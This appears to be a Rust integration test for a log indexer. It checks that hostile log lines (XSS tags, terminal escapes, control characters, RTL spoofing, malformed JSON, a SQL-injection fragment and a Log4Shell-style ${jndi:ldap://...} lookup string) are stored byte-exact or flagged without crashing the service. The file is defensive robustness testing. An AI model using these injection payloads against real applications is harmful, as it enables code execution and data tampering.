//! Hostile log content: markup, terminal escapes, control characters, odd unicode, JSON
//! breakers, huge lines, invalid UTF-8 and non-object JSON. Every line comes back byte-exact as
//! a JSON string (or flagged, for what cannot), and the node stays healthy.

use std::io::Write;

use serde_json::Value;

use crate::harness::{Node, append_lines};

/// The hits for `q` (first page, full objects).
fn hits(node: &Node, q: &str) -> Vec<Value> {
    let mut url = reqwest::Url::parse(&node.url("/api/v1/search")).unwrap();
    url.query_pairs_mut()
        .append_pair("q", q)
        .append_pair("limit", "100");
    let path = format!("{}?{}", url.path(), url.query().unwrap());
    let (status, body) = node.get(&path);
    assert_eq!(status, 200, "search {q}: {body}");
    body["hits"].as_array().unwrap().clone()
}

fn flags(hit: &Value) -> Vec<String> {
    hit["flags"]
        .as_array()
        .map(|flags| {
            flags
                .iter()
                .map(|f| f.as_str().unwrap().to_string())
                .collect()
        })
        .unwrap_or_default()
}

fn assert_healthy(node: &Node) {
    let (status, body) = node.get("/health");
    assert_eq!(status, 200, "{body}");
    let (status, body) = node.get("/api/v1/status");
    assert_eq!(status, 200, "{body}");
}

#[test]
fn hostile_lines_come_back_byte_exact() {
    let mut node = Node::new("", "");
    node.start();
    const MIB: usize = 1024 * 1024;

    let mut lines: Vec<String> = vec![
        "hostile01 <img src=x onerror=alert(1)>".into(),
        "hostile02 <script>alert(1)</script>".into(),
        "hostile03 \u{1b}[31mred\u{1b}[0m".into(),
        "hostile04 \u{1b}]0;title\u{7} and \u{1b}[2J\u{1b}[H clear".into(),
        "hostile05 \u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}\u{b}\u{c}\u{7f} controls".into(),
        "hostile06 日本語のログ 中文日志 한국어 로그".into(),
        "hostile07 \u{202e}gpj.exe\u{202c} rtl override".into(),
        "hostile08 zero\u{200b}width\u{feff}bom\u{2028}ls\u{2029}ps".into(),
        "hostile09 emoji 🎉🔥 👩‍💻 🏳️‍🌈".into(),
        "hostile10 \"},{\"x\":1".into(),
        "hostile11 {\"a\": [\\u0000 \\\" \\\\ '; DROP TABLE logs; -- %00 %s %n ${jndi:ldap://x/a}"
            .into(),
        "hostile12 carriage\rreturn in the middle".into(),
        "hostile13 nul\u{0}byte".into(),
        "hostile14 \t tabs \t and  spaces  ".into(),
    ];
    // 900 KB: under max_line_bytes (1 MiB), comes back whole.
    let mut big = String::from("hostile15 ");
    while big.len() < 900 * 1024 {
        big.push_str("lorem ipsum dolor sit amet ");
    }
    lines.push(big);
    // 10 MB: cut to exactly 1 MiB and flagged.
    let mut huge = String::from("hostile16 ");
    while huge.len() < 10 * MIB {
        huge.push_str("0123456789abcdef");
    }
    lines.push(huge.clone());
    lines.push("hostile17 the line after the huge one".into());

    let path = node.logs().join("hostile.log");
    append_lines(&path, lines.clone());
    node.add_runner(&node.runner_json("hostile", "hostile.log", "raw"));
    node.wait_for_count("hostile17", 1);

    let mut mismatches = Vec::new();
    for (index, line) in lines.iter().enumerate() {
        let token = format!("hostile{:02}", index + 1);
        assert!(line.starts_with(&token));
        let found = hits(&node, &token);
        if found.len() != 1 {
            mismatches.push(format!("{token}: {} hits", found.len()));
            continue;
        }
        let message = found[0]["message"].as_str().unwrap();
        if token == "hostile16" {
            assert_eq!(message.len(), MIB, "the huge line is cut to max_line_bytes");
            assert!(huge.starts_with(message), "the cut keeps the head");
            assert!(
                flags(&found[0]).contains(&"truncated".to_string()),
                "{:?}",
                flags(&found[0])
            );
            continue;
        }
        if message != line.as_str() {
            let head = |text: &str| text.chars().take(200).collect::<String>();
            mismatches.push(format!(
                "{token}: got {:?} ({} bytes), expected {:?} ({} bytes)",
                head(message),
                message.len(),
                head(line),
                line.len()
            ));
        }
        if !flags(&found[0]).is_empty() {
            mismatches.push(format!("{token}: flags {:?}", flags(&found[0])));
        }
    }
    assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
    assert_eq!(node.count("runner:hostile"), lines.len() as u64);
    assert_eq!(node.count("runner:hostile AND flags:truncated"), 1);
    let status = node.runner_status("hostile");
    assert_eq!(status["lines_truncated"], 1, "{status}");
    assert_healthy(&node);
}

#[test]
fn json_runner_keeps_invalid_utf8_and_non_objects_flagged() {
    let mut node = Node::new("", "");
    node.start();
    let path = node.logs().join("bad.json");
    let mut file = std::fs::File::create(&path).unwrap();
    let deep = format!(
        "{}\"jsonbad07\"{}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let raw_lines: Vec<Vec<u8>> = vec![
        b"{\"msg\":\"jsonok01 fine\",\"level\":\"info\"}".to_vec(),
        b"jsonbad01 \xff\xfe\xc3\x28 not json and not utf-8".to_vec(),
        b"[\"jsonbad02\", 1, 2]".to_vec(),
        b"\"jsonbad03 a lone string\"".to_vec(),
        b"{\"msg\":\"jsonbad04 unterminated".to_vec(),
        b"{\"msg\":\"jsonbad05\",\"n\":1e999999}".to_vec(),
        b"jsonbad06 {\"x\":1}".to_vec(),
        deep.into_bytes(),
        b"{\"msg\":\"jsonbad08 \xff inside a string\"}".to_vec(),
        b"{\"msg\":\"jsonok09 last\"}".to_vec(),
    ];
    for line in &raw_lines {
        file.write_all(line).unwrap();
        file.write_all(b"\n").unwrap();
    }
    file.flush().unwrap();
    drop(file);
    node.add_runner(&node.runner_json("badjson", "bad.json", "json"));
    node.wait_for_count("runner:badjson", raw_lines.len() as u64);

    let one = |token: &str| -> Value {
        let found = hits(&node, token);
        assert_eq!(found.len(), 1, "{token}: {found:?}");
        found[0].clone()
    };
    let ok = one("jsonok01");
    assert_eq!(ok["message"], "jsonok01 fine");
    assert_eq!(ok["level"], "info");
    assert!(flags(&ok).is_empty(), "{ok}");

    // Not JSON and not UTF-8: kept as text, invalid bytes replaced by U+FFFD, flagged.
    let hit = one("jsonbad01");
    let message = hit["message"].as_str().unwrap();
    assert_eq!(
        message,
        String::from_utf8_lossy(&raw_lines[1]),
        "invalid UTF-8 becomes U+FFFD"
    );
    assert!(message.contains('\u{fffd}'), "{message:?}");
    assert!(flags(&hit).contains(&"parse_error".to_string()), "{hit}");

    // Valid JSON that is not an object, broken JSON, too deep JSON: kept verbatim, flagged.
    for (token, index) in [
        ("jsonbad02", 2),
        ("jsonbad03", 3),
        ("jsonbad04", 4),
        ("jsonbad05", 5),
        ("jsonbad06", 6),
        ("jsonbad07", 7),
    ] {
        let hit = one(token);
        assert_eq!(
            hit["message"].as_str().unwrap().as_bytes(),
            &raw_lines[index][..],
            "{token}"
        );
        assert!(
            flags(&hit).contains(&"parse_error".to_string()),
            "{token}: {:?}",
            flags(&hit)
        );
    }

    // Invalid UTF-8 inside a JSON string: the line is decoded lossily first, so it parses and
    // the message carries U+FFFD (no parse_error).
    let hit = one("jsonbad08");
    assert_eq!(
        hit["message"], "jsonbad08 \u{fffd} inside a string",
        "{hit}"
    );

    assert_eq!(one("jsonok09")["message"], "jsonok09 last");
    let status = node.runner_status("badjson");
    assert_eq!(status["parse_errors"], 7, "{status}");
    assert_eq!(status["state"], "running", "{status}");
    assert_healthy(&node);
}

/// Event times lograft cannot represent (before 1970, after 2200, huge numbers) must not take
/// the indexer down, and the lines must stay searchable (they keep their ingest time).
/// See: `{"ts":"9999-12-31T23:59:59Z"}` used to panic the indexer thread (found by this test).
#[test]
fn hostile_timestamps_do_not_wedge_the_indexer() {
    let mut node = Node::new("", "");
    node.start();
    let lines: Vec<String> = vec![
        r#"{"msg":"jsonts01 year 9999","ts":"9999-12-31T23:59:59Z"}"#.into(),
        r#"{"msg":"jsonts02 huge number","ts":1e300}"#.into(),
        r#"{"msg":"jsonts03 negative","ts":-1e300}"#.into(),
        r#"{"msg":"jsonts04 before 1970","ts":"1900-01-01T00:00:00Z"}"#.into(),
        r#"{"msg":"jsonts05 after the huge ones"}"#.into(),
    ];
    append_lines(&node.logs().join("ts.json"), lines.clone());
    node.add_runner(&node.runner_json("badts", "ts.json", "json"));
    node.wait_for_count("jsonts05", 1);
    for index in 1..=4 {
        let token = format!("jsonts{index:02}");
        assert_eq!(hits(&node, &token).len(), 1, "{token} is not searchable");
    }
    assert_healthy(&node);
}
